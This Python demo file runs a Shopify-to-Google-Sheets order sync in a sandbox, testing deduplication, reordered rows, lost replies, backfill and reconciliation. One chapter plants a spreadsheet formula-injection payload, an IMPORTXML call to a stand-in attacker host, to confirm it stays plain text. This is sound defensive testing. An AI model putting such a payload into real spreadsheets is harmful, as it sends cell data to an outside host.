"""The demo's second story: a shop's orders in a spreadsheet that people work in at the same time."""

from __future__ import annotations

import time
from datetime import date, timedelta
from typing import Any

from rich.table import Table

from sync_pipelines.demo.playground import Playground
from sync_pipelines.demo.story import Story
from sync_pipelines.operations import launch
from sync_pipelines.operations.cli import screen

BOOK = "Order Book"
NEXT_SECOND = 1.1
"""Changes are read up to the last full second."""


class OrderStory(Story):
    """Shopify to Google Sheets, with the truth as the sandbox holds it: the shop's orders, the spreadsheet's cells."""

    def __init__(self, playground: Playground) -> None:
        super().__init__(playground, "shopify_sheets", "Shopify → Google Sheets")

    def rows(self, tab: str = "Orders") -> list[list[Any]]:
        """The cells of a tab, its header first."""
        from sync_pipelines.vendors.google_settings import GoogleSettings
        from sync_pipelines.vendors.google_sheets import Cells, Sheets
        from sync_pipelines.vendors.http import CallMeter

        sheets = Sheets.connect(GoogleSettings.read(), CallMeter(), lambda: False)
        try:
            book = sheets.find(BOOK)
            grid = sheets.tabs(book)[tab]
            return sheets.values(book, [Cells(tab, 1, 1, None, grid.columns)])[0]
        finally:
            sheets.close()

    def column(self, header: str, tab: str = "Orders") -> list[Any]:
        """One column below its header, blank cells left out."""
        first, *rows = self.rows(tab)
        place = first.index(header)
        return [row[place] for row in rows if len(row) > place and row[place] != ""]

    def writes(self) -> int:
        return int(self.playground.state("google")["writes"])

    def shop(self, **change: Any) -> dict[str, Any]:
        """Change the shop, and wait until the change is in the past."""
        answer = self.playground.change("shopify", change)
        time.sleep(NEXT_SECOND)
        return answer

    def tell_it(self) -> None:
        from sync_pipelines.pipelines.shopify_sheets import questions

        self.chapter("First sync", "A blank spreadsheet is set up; then the last 30 days of orders are written and read back.")
        questions.set_up()
        first = self.run("first", "sync")
        ids = self.column("Order ID")
        self.says(f"{len(ids)} orders, {len(self.column('Line ID', 'Line Items'))} lines; every order stands once")
        self.expect(len(ids) == len(set(ids)) == first.counts.get("delivered"), "every order stands once")

        self.chapter("The same again", "Nothing changed in the shop.")
        before = self.writes()
        self.run("again", "sync")
        self.says(f"{self.writes() - before} writes")
        self.expect(self.writes() == before, "no change means no write")

        self.chapter(
            "A day at the shop", "Three orders come in, one is cancelled, one refunded; meanwhile somebody sorts the sheet."
        )
        names = self.column("Order")
        self.playground.change(
            "google",
            {
                "person": [
                    {"spreadsheet": BOOK, "tab": "Orders", "do": "sort", "by": "O", "range": "A2:U1000", "descending": True},
                    {"spreadsheet": BOOK, "tab": "Orders", "do": "insert_columns", "at": "E", "count": 1},
                    {"spreadsheet": BOOK, "tab": "Orders", "do": "type", "cell": "E1", "value": "Packed by"},
                    {"spreadsheet": BOOK, "tab": "Orders", "do": "type", "cell": "E2", "value": "Ann"},
                ]
            },
        )
        self.shop(arrive=3, cancel=[names[-1]], refund=[{"order": names[-2], "lines": {"0": 1}, "note": "came broken"}])
        day = self.run("day", "sync")
        header, *rows = self.rows()
        cancelled = next(row for row in rows if row[header.index("Order")] == names[-1])
        packed = rows[0][header.index("Packed by")]
        self.says(f"{names[-1]} keeps its row and says {cancelled[header.index('Status')]}; Ann's note still says {packed!r}")
        self.expect(cancelled[header.index("Status")] == "Cancelled" and packed == "Ann", "rows are found wherever they are")
        self.expect(day.counts.get("delivered", 0) >= 5, "what changed was written")

        self.chapter("A customer called =IMPORTXML(…)", "Somebody tries to have the spreadsheet run their text.")
        evil = '=IMPORTXML("http://evil.example/?"&A2)'
        self.shop(set={names[-3]: {"note": evil}})
        self.run("formula", "sync")
        self.says(f"the note says {evil!r}, as text; formulas in the sheet that came from us: {self.formulas()}")
        self.expect(evil in self.column("Note") and self.formulas() == 0, "text stays text")

        self.chapter("A reply is lost", "Google takes the rows, then the line is cut before it answers.")
        self.playground.fault("google", on="POST /v4/spreadsheets/*/values:batchUpdate", kind="lost_reply")
        self.shop(arrive=2)
        lost = self.run("lost", "sync")
        ids = self.column("Order ID")
        self.says(f"settled by reading: {lost.counts.get('delivered', 0)} delivered, {len(ids) - len(set(ids))} standing twice")
        self.expect(len(ids) == len(set(ids)) and lost.state == "done", "a lost reply is settled without a second row")

        self.chapter("Six older days", "They were never asked for; a backfill reads them whole, the next sync writes them.")
        oldest = date.today() - timedelta(days=50)  # noqa: DTZ011 - any six days long ago will do
        with self.under_way("backfill shopify_store"):
            last = oldest + timedelta(days=5)
            ended = launch.launch("shopify_store", "backfill", partitions=(str(oldest), str(last)), since=time.time())
        self.tell("backfill", ended)
        self.run("older", "sync")

        self.chapter("The proof", "An order is deleted in the shop. Every day is held against the shop's own count.")
        self.shop(delete=[names[-4]])
        self.run("proof", "reconcile")
        header, *rows = self.rows()
        gone = next(row for row in rows if row[header.index("Order")] == names[-4])
        self.says(f"{names[-4]} keeps its row and says {gone[header.index('Status')]}")
        self.expect(gone[header.index("Status")] == "Deleted", "a deleted order is noticed")
        screen.out.print()
        screen.out.print(self.old_and_new())

    def formulas(self) -> int:
        """Cells that became a formula through the API, ever."""
        return len(self.playground.state("google")["formulas_entered"])

    def old_and_new(self) -> Table:
        table = Table(title="the old script / this", title_justify="left", header_style="bold")
        for name in ("", "the old script", "this"):
            table.add_column(name, overflow="fold")
        again, day = self.runs["again"], self.runs["day"]
        for row in (
            ("nothing changed", "every order of a month fetched again", f"{again.calls['used']} calls, 0 writes"),
            ("an order changes", "never written", f"its row is ({day.counts.get('delivered', 0)} rows, read back)"),
            ("a reply is lost", "written twice", "settled by reading, written once"),
            ("text like =IMPORTXML(…)", "runs", "is text"),
            ("somebody sorts or inserts", "rows land in the wrong place", "rows are found by their key"),
            ("orders east of UTC, closed, renumbered", "lost", "counted, day by day, against the shop"),
            ("taking it back", "no", "sync-pipelines undo; a row is emptied, never deleted"),
        ):
            table.add_row(*row)
        return table
